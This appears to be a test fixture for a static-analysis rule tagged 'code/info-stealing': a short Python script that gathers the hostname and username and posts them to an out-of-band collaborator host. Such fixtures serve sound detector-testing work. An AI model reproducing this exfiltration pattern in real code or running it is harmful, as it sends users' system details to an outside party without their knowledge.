import getpass
import socket

import requests

COLLAB = "probe123.oast.fun"


def collect():
    return {"host": socket.gethostname(), "user": getpass.getuser()}


def send(data, server):
    # ruleid: code/info-stealing
    requests.post(f"http://{server}/c", json=data, timeout=5)


def main():
    send(collect(), COLLAB)
